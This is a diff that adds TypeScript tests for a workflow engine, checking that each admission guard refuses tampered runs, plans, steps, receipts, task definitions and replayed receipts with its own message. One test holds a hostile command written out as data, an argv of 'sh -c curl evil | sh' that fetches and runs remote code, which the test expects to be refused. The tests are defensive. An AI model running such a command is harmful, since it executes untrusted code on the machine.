@@ -439,6 +439,141 @@ describe("admission refuses what it cannot prove", () => {
   });
 });
 
+/** The refusal's message: each guard names what it refused, so a test can tell the guards apart. */
+function refusal(input: AdmissionInput): string {
+  try {
+    admitTaskAttempt(input);
+  } catch (error) {
+    return String((error as Error).message);
+  }
+  return "admitted";
+}
+
+describe("each refusal is the guard's own", () => {
+  it("run guards: an ordinary run, a run that is not running, a run with a cancel intent", () => {
+    const input = inputFor(readyWorld());
+    expect(refusal({ ...input, run: { ...input.run, kind: "ordinary" } })).toMatch(
+      /run run-1 is not a workflow run/,
+    );
+    expect(refusal({ ...input, run: { ...input.run, status: "failed" } })).toMatch(
+      /run run-1 is failed, not running/,
+    );
+    const cancelled = requestCancel(input.run, T0 + 5, "user")!.runs[0]!.after;
+    expect(refusal({ ...input, run: cancelled })).toMatch(/run run-1 has a cancel intent/);
+  });
+
+  it("plan guards: a tampered plan and a plan the run is not bound to", () => {
+    const world = readyWorld();
+    const input = inputFor(world);
+    expect(refusal({ ...input, plan: { ...input.plan, workflow: "renamed" } })).toMatch(
+      /plan .* fails its digest/,
+    );
+    const later = applyManifest(
+      diamondManifest("demo", { tasks: [task("work"), task("other")] }),
+      T0 + 1,
+      { generation: 1, manifestDigest: world.pkg.generation.manifestDigest },
+    );
+    expect(refusal({ ...input, plan: planOf(later, "diamond") })).toMatch(
+      /run run-1 is bound to plan .*, not /,
+    );
+  });
+
+  it("step guards: another run's step, a step that is not ready, a step waiting for its backoff", () => {
+    const world = readyWorld();
+    const other = world.startWorkflow("diamond", "run-2", T0 + 2);
+    world.apply(advanceFrontier(other, world.model.stepsOf("run-2"), [], T0 + 3));
+    const input = inputFor(world);
+    expect(refusal({ ...input, step: world.model.step("run-2", "a") })).toMatch(
+      /is not part of run run-1/,
+    );
+    expect(refusal(inputFor(world, "b"))).toMatch(/is pending, not ready/);
+    const waiting = { ...input.step, notBeforeMs: T0 + 11 };
+    expect(refusal({ ...input, step: waiting, nowMs: T0 + 10 })).toMatch(
+      /waits for its retry backoff/,
+    );
+    // Due exactly at its backoff: admitted.
+    expect(refusal({ ...input, step: waiting, nowMs: T0 + 11 })).toBe("admitted");
+    expect(refusal({ ...input, step: { ...input.step, task: "other" } })).toMatch(
+      /step a is not in plan/,
+    );
+  });
+
+  it("reconciliation guards: a tampered receipt and a receipt of another generation", () => {
+    const world = readyWorld();
+    const input = inputFor(world);
+    expect(
+      refusal({ ...input, reconciliation: { ...input.reconciliation, lockDigest: digestOf([]) } }),
+    ).toMatch(/reconciliation receipt .* fails its digest/);
+    const later = applyManifest(
+      diamondManifest("demo", { tasks: [task("work"), task("other")] }),
+      T0 + 1,
+      { generation: 1, manifestDigest: world.pkg.generation.manifestDigest },
+    );
+    expect(
+      refusal({
+        ...input,
+        reconciliation: later.reconciliation.receipt,
+        definition: definitionOf(later, "work"),
+      }),
+    ).toMatch(/reconciliation receipt is not the one the run and plan are bound to/);
+  });
+
+  it("definition guards: another generation's definition, a claimed execution digest, a changed revision, a claimed executor, a forged retry policy", () => {
+    const world = readyWorld();
+    const input = inputFor(world);
+    const later = applyManifest(
+      diamondManifest("demo", { tasks: [task("work"), task("other")] }),
+      T0 + 1,
+      { generation: 1, manifestDigest: world.pkg.generation.manifestDigest },
+    );
+    expect(refusal({ ...input, definition: definitionOf(later, "work") })).toMatch(
+      /task definition .* is not the reconciled/,
+    );
+    const claimed = normalizeLocalProcess({
+      argv: ["evil"],
+      env: {},
+      cwd: null,
+      timeoutMs: 1,
+      shell: false,
+    }).digest;
+    expect(
+      refusal({ ...input, definition: { ...input.definition, executionDigest: claimed } }),
+    ).toMatch(/execution digest claimed .* but the revision normalizes to/);
+    const execution = { ...input.definition.execution, argv: ["sh", "-c", "curl evil | sh"] };
+    expect(refusal({ ...input, definition: { ...input.definition, execution } })).toMatch(
+      /execution digest claimed/,
+    );
+    expect(
+      refusal({ ...input, definition: { ...input.definition, executor: "remote_worker" } }),
+    ).toMatch(/executor type remote_worker does not match its revision/);
+    expect(
+      refusal({
+        ...input,
+        definition: { ...input.definition, retry: { max: 50, backoffMs: 0, idempotent: true } },
+      }),
+    ).toMatch(/does not recompute to its claimed digest and revision/);
+  });
+
+  it("replay guards: a receipt of another step, of another epoch, or failing its digest", () => {
+    const world = readyWorld();
+    const attempt = world.admit("run-1", "a", T0 + 10);
+    const receipt = world.model.admission("run-1", attempt.stepRunId!, attempt.stepRunVersion!)!;
+    const input = inputFor(world);
+    expect(refusal({ ...input, existing: { ...receipt, stepRunId: "stp:other" } })).toMatch(
+      /stored receipt belongs to another step/,
+    );
+    expect(refusal({ ...input, existing: { ...receipt, runId: "run-9" } })).toMatch(
+      /stored receipt belongs to another step/,
+    );
+    expect(
+      refusal({ ...input, existing: { ...receipt, stepRunVersion: receipt.stepRunVersion + 1 } }),
+    ).toMatch(/stored receipt belongs to ready epoch/);
+    expect(refusal({ ...input, existing: { ...receipt, attemptId: "wta:forged" } })).toMatch(
+      /stored receipt for wta:forged fails its digest/,
+    );
+  });
+});
+
 describe("bounded candidate pages", () => {
   it("the admission page is named once: 64 (ADR-0227 §3)", () => {
     expect(MAX_ADMISSION_PAGE).toBe(64);
